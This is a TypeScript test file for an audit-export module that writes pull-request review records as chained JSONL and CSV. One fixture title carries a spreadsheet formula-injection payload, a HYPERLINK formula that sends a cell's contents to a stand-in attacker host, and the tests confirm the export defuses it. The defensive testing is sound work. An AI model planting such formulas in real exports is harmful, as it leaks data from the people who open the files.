import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { canonicalJson, chainRecords } from '../../src/audit/chain.js';
import { CSV_COLUMNS, buildReportData, neutralizeCell, toCsv } from '../../src/audit/export.js';
import { record, sampleRecords } from './chain-records.js';

describe('prs.jsonl', () => {
  it('holds one chained record per line, in canonical JSON, in the chain order', () => {
    const data = buildReportData(sampleRecords(), { scope: { org: 'acme' } });
    const text = data.files['prs.jsonl']!;
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(10);
    lines.forEach((line, i) => {
      const parsed = JSON.parse(line) as Record<string, unknown>;
      expect(line).toBe(canonicalJson(parsed));
      expect(parsed).toEqual(data.chained[i]);
    });
    expect(JSON.parse(data.files['chain.json']!)).toEqual(data.manifest);
    expect(data.manifest).toMatchObject({ records: 10, scope: { org: 'acme' } });
    expect(data.files['chain.sig']).toBeUndefined();
  });
});

describe('prs.csv', () => {
  const hostile = record({
    number: 42,
    title: '=HYPERLINK("http://evil.example/?"&A1,"Click"), "quoted"\nsecond line\r\nthird',
    author: '@attacker',
    reason: '-2+3',
    override: { label: '+override', by: 'admin1', at: '2026-11-02T00:00:00Z' },
    requirements: [],
    tools: ['\tTool'],
  });

  it('has a header naming every column, then one row per pull request in chain order', () => {
    const chained = chainRecords([...sampleRecords(), hostile]);
    const rows = parse(toCsv(chained), { record_delimiter: '\r\n' }) as string[][];
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(rows).toHaveLength(12);
    rows.slice(1).forEach((row, i) => {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      const r = chained[i]!;
      const cell = (name: string) => row[CSV_COLUMNS.findIndex((c) => c.name === name)];
      expect(cell('repository')).toBe(r.repository);
      expect(cell('number')).toBe(String(r.number));
      expect(cell('sha256')).toBe(r.sha256);
      expect(cell('previous')).toBe(r.previous);
      expect(cell('policy_digest')).toBe(r.policy.digest);
    });
  });

  it('flattens requirements, approvers and evidence into readable cells', () => {
    const r = chainRecords([record({ number: 1 })])[0]!;
    const rows = parse(toCsv([r])) as string[][];
    const cell = (name: string) => rows[1]![CSV_COLUMNS.findIndex((c) => c.name === name)];
    expect(cell('requirements')).toBe('payments: 2/2 from @acme/payments-seniors (met)');
    expect(cell('approvers_counted')).toBe('senior1; senior2');
    expect(cell('approvers_discounted')).toBe('dev2 (stale)');
    expect(cell('evidence')).toBe(`trailer: Assisted-by: Claude (${r.headSha.slice(0, 12)})`);
    expect(cell('ai_assisted')).toBe('true');
    expect(cell('override_label')).toBe('');
    expect(cell('check_conclusion')).toBe('success');
    expect(cell('changes_requested_by')).toBe('');
    expect(cell('override_allowed')).toBe('');
  });

  it('says who requested changes and whether an override counted', () => {
    const base = record({ number: 2 });
    const r = chainRecords([
      record({
        number: 2,
        class: 'overridden',
        requirements: [{ ...base.requirements[0]!, changesRequestedBy: ['senior2'] }],
        override: { label: 'ai-override', by: 'lead1', at: '2026-11-02T00:00:00Z', allowed: true },
      }),
    ])[0]!;
    const rows = parse(toCsv([r])) as string[][];
    const cell = (name: string) => rows[1]![CSV_COLUMNS.findIndex((c) => c.name === name)];
    expect(cell('changes_requested_by')).toBe('senior2');
    expect(cell('override_label')).toBe('ai-override');
    expect(cell('override_allowed')).toBe('true');
  });

  it('quotes line breaks and quotes as RFC 4180 says, and defuses formula-like cells', () => {
    const [r] = chainRecords([hostile]);
    const csv = toCsv([r!]);
    // Rows end in CRLF; the title's own line breaks stay inside one quoted field.
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click""), ""quoted""\nsecond line\r\nthird"`,
    );
    const rows = parse(csv) as string[][];
    expect(rows).toHaveLength(2);
    const cell = (name: string) => rows[1]![CSV_COLUMNS.findIndex((c) => c.name === name)];
    expect(cell('title')).toBe(`'${hostile.title}`);
    expect(cell('author')).toBe("'@attacker");
    expect(cell('reason')).toBe("'-2+3");
    expect(cell('override_label')).toBe("'+override");
    expect(cell('tools')).toBe("'\tTool");
    // No cell of any row starts a formula.
    for (const row of rows) for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves numbers, booleans and ordinary text as they are', () => {
    expect(neutralizeCell(12)).toBe('12');
    expect(neutralizeCell(false)).toBe('false');
    expect(neutralizeCell(null)).toBe('');
    expect(neutralizeCell('Fix a=b')).toBe('Fix a=b');
  });
});

describe('docs/audit.md', () => {
  const doc = readFileSync(join(import.meta.dirname, '../../docs/audit.md'), 'utf8');
  const rows = (heading: string) => {
    const start = doc.indexOf(heading);
    const section = doc.slice(start, doc.indexOf('\n## ', start + 1));
    return [...section.matchAll(/^\| `(\w+)` +\|/gm)].map((m) => m[1]);
  };

  it('describes every field of a prs.jsonl record, in a table of its own', () => {
    const fields = Object.keys(chainRecords([record({ number: 1 })])[0]!).sort();
    expect(rows('## prs.jsonl, field by field').sort()).toEqual(fields);
  });

  it('describes every prs.csv column, in order', () => {
    expect(rows('## prs.csv, column by column')).toEqual(CSV_COLUMNS.map((c) => c.name));
  });
});
